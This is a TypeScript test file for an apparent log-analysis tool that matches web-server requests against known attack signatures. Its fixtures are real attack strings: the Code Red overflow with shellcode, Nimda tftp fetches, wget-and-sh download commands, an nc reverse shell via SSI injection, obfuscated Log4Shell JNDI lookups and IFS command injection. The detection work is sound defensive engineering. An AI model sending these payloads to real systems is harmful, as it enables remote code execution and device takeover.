import { deepEqual, equal } from 'node:assert/strict'
import { test } from 'node:test'
import type { LogEntry } from '../model/entry.ts'
import type { Instant } from '../model/instant.ts'
import type { Source } from '../model/source.ts'
import { signatures } from '../signatures/index.ts'
import { match, rules } from './match.ts'

const ready = rules(signatures)
const tail = `${'%u9090%u6858%ucbd3%u7801'.repeat(3)}%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a`
const worm = `/default.ida?${'N'.repeat(224)}${tail}`

function marks(entry: Partial<LogEntry>): readonly string[] {
  const whole: LogEntry = {
    source: '192.0.2.7' as Source,
    at: '2001-07-19T14:08:55Z' as Instant,
    clock: 'known',
    escapes: 'slashes',
    method: 'GET',
    version: '1.0',
    ...entry,
  }
  return match(whole, ready).map(({ id }) => id)
}

test('the worm as it came', () => deepEqual(marks({ target: worm }), ['codered-n-worm']))
test('the worm at any status', () =>
  deepEqual(marks({ target: worm, status: 200 }), ['codered-n-worm']))
test('the worm through a proxy', () =>
  deepEqual(marks({ target: `http://www.example.org${worm}` }), ['codered-n-worm']))
test('the worm spelled otherwise', () => {
  deepEqual(
    marks({ target: `/%64efault%2eIDA?${'%4e'.repeat(224)}${tail.replaceAll('%', '%25')}` }),
    ['codered-n-worm'],
  )
})
test('one letter less is not the whole worm', () => {
  deepEqual(marks({ target: worm.replace('N', '') }), ['codered-n-run'])
})
test('the worm as the page somebody came from is nothing', () => {
  deepEqual(marks({ target: '/', referer: `http://www.example.org${worm}`, userAgent: worm }), [])
})

test('wherever the line is cut, it is the worm or less, and never another family', () => {
  const seen = new Set<string>()
  for (let length = 1; length < worm.length; length++) {
    for (const mark of marks({ target: worm.slice(0, length), cut: true })) seen.add(mark)
  }
  deepEqual([...seen].toSorted(), ['codered-n-worm~cut', 'default-ida'])
})

test('a cut that tells nothing yet gives nothing', () => {
  for (const target of [
    '/',
    '/d',
    '/s',
    '/scripts/r',
    '/scripts/root.ex',
    '/default.id',
    '/default.htm?NNNN',
  ]) {
    deepEqual(marks({ target, cut: true }), [], target)
  }
})

test('the same text of a whole line gives no cut mark', () => {
  deepEqual(marks({ target: '/default.ida?NNNN' }), ['default-ida'])
})

test('a log that keeps no queries, versions or agents can still show a door', () => {
  const entry: LogEntry = {
    source: '192.0.2.7' as Source,
    at: '2001-09-18T13:40:25Z' as Instant,
    clock: 'known',
    escapes: 'plus',
    method: 'GET',
    target: '/scripts/root.exe',
    queryLogged: false,
  }
  deepEqual(
    match(entry, ready).map(({ id }) => id),
    ['nimda-scripts-root'],
  )
})

test('the tftp command that names its sender is its own payload', () => {
  const target = '/scripts/root.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20Admin.dll'
  const entry = {
    source: '192.0.2.7' as Source,
    at: '2001-09-18T13:40:25Z' as Instant,
    clock: 'known',
    escapes: 'none',
    target,
  } as const
  const [mark] = match(entry, ready)
  deepEqual(mark, {
    id: 'nimda-tftp',
    field: 'target',
    payloadHosts: ['192.0.2.7'],
    ownPayload: true,
    door: true,
  })
  equal(match({ ...entry, source: '192.0.2.8' as Source }, ready)[0]?.ownPayload, false)
})

const today = { at: '2022-01-23T22:02:09Z' as Instant, version: '1.1' }
const jaws = '/shell?cd+/tmp;wget+http://198.51.100.9/jaws;sh+/tmp/jaws'

test('a payload tells the marks of a family apart', () => {
  deepEqual(marks({ ...today, target: jaws }), ['jaws-run'])
  deepEqual(marks({ ...today, target: '/shell?cd+/tmp;wget+http://198.51.100.9/x' }), [
    'jaws-fetch',
  ])
  deepEqual(marks({ ...today, target: '/shell?cd+/tmp;id' }), ['jaws-path'])
})

test('a line cut inside the command may have gone on to run it', () => {
  deepEqual(
    marks({
      ...today,
      target: '/shell?cd+/tmp;wget+http://198.51.100.9/x;s',
      cut: true,
    }).toSorted(),
    ['jaws-fetch', 'jaws-run~cut'],
  )
})

test('a payload in another field than the mark is no part of it', () => {
  const entry = {
    source: '192.0.2.7' as Source,
    ...today,
    clock: 'known',
    escapes: 'slashes',
    method: 'POST',
    target: '/HNAP1/',
    referer: 'wget http://192.0.2.7/x;sh x',
    userAgent: 'wget http://192.0.2.7/x;sh x',
  } as const
  const [mark] = match(entry, ready)
  deepEqual([mark?.id, mark?.payloadHosts, mark?.ownPayload], ['hnap-post', [], false])
})

test('the hosts of a payload are told, but not those that mean nobody', () => {
  const hostsOf = (target: string) =>
    match(
      { source: '192.0.2.7' as Source, ...today, clock: 'known', escapes: 'slashes', target },
      ready,
    )[0]?.payloadHosts
  deepEqual(hostsOf(jaws), ['198.51.100.9'])
  deepEqual(hostsOf(jaws.replace('198.51.100.9', '192.168.1.1:8088')), [])
  deepEqual(hostsOf(jaws.replace('198.51.100.9', '0.0.0.0')), [])
  deepEqual(hostsOf('/?x=${jndi:ldap://198.51.100.9/a}'), ['198.51.100.9'])
  const many = Array.from({ length: 40 }, (_, index) => `wget+http://198.51.100.${index}/x`)
  deepEqual(hostsOf(`/shell?${many.join(';')}`)?.length, 16)
})

test("a private source's own payload is its own, told or not", () => {
  const [mark] = match(
    {
      source: '192.168.1.1' as Source,
      ...today,
      clock: 'known',
      escapes: 'slashes',
      target: jaws.replace('198.51.100.9', '192.168.1.1:8088'),
    },
    ready,
  )
  deepEqual([mark?.payloadHosts, mark?.ownPayload], [[], true])
})

test('calling oneself back is no payload', () => {
  const target =
    '/incl/image_test.shtml?camnbr=%3c%21--%23exec%20cmd=%22nc%20192.0.2.7%2031337|/bin/sh%22%20--%3e'
  const entry = {
    source: '192.0.2.7' as Source,
    ...today,
    clock: 'known',
    escapes: 'none',
    target,
  } as const
  const [mark] = match(entry, ready)
  deepEqual(
    [mark?.id, mark?.payloadHosts, mark?.ownPayload],
    ['iot-ssi-exec', ['192.0.2.7'], false],
  )
})

test('the agent of a scanner marks a line that has another mark, and no other', () => {
  const userAgent = 'Mozilla/5.0 zgrab/0.x'
  deepEqual(marks({ ...today, target: '/HNAP1', userAgent }), ['hnap-get', 'scanner-agent'])
  deepEqual(marks({ ...today, target: '/', userAgent }), [])
  deepEqual(marks({ ...today, target: '/HNAP1', userAgent: 'curl/8.1' }), ['hnap-get'])
})

test('the mark of a scanner is of the same request as the other', () => {
  const entry = {
    source: '192.0.2.7' as Source,
    ...today,
    clock: 'known',
    escapes: 'slashes',
    method: 'GET',
    target: '/?x=${jndi:ldap://198.51.100.9/a}',
    userAgent: 'Nuclei - Open-source project ${jndi:ldap://198.51.100.9/a}',
  } as const
  deepEqual(
    match(entry, ready).map(({ id, field }) => [id, field]),
    [
      ['log4shell-query', 'target'],
      ['log4shell-agent', 'userAgent'],
      ['scanner-agent', 'target'],
      ['scanner-agent', 'userAgent'],
    ],
  )
})

const hidden: readonly (readonly [target: string, mark: string])[] = [
  ['/?x=$%7bjndi:ldap://198.51.100.9/a%7d', 'log4shell-query'],
  ['/?x=%24%7b::-j%7dndi', ''],
  ['/?x=%24%7b%24%7b::-j%7dndi:rmi://198.51.100.9/a%7d', 'log4shell-query'],
  ['/?x=${${lower:j}${upper:n}${lower:d}i:ldap://198.51.100.9/a}', 'log4shell-query'],
  ['/%2524%257bjndi:dns://198.51.100.9/a%257d', 'log4shell-path'],
  [String.raw`/index.php?s=/index/\\think\\app/invokefunction&vars[0]=md5`, 'thinkphp-invoke'],
  [String.raw`/index.php?s=/index/\x5Cthink\x5Capp/invokefunction&vars[0]=md5`, 'thinkphp-invoke'],
  ['/index.php?s=/index/%255Cthink%255Capp/invokefunction&vars[0]=md5', 'thinkphp-invoke'],
  ['/language/Swedish$%7BIFS%7D&&wget$%7BIFS%7Dhttp://198.51.100.9/x|sh', 'cctv-dvr-run'],
  ['/bin/zhttpd/$IFS/usr/bin/wget${IFS}http://198.51.100.9/x;${IFS}./x', 'zyxel-zhttpd-run'],
  ['http://www.example.org/GponForm/diag_Form?images/', 'gpon-path'],
]

for (const [target, mark] of hidden) {
  test(`${target} is ${mark || 'nothing'}`, () =>
    deepEqual(marks({ ...today, target }), mark === '' ? [] : [mark]))
}
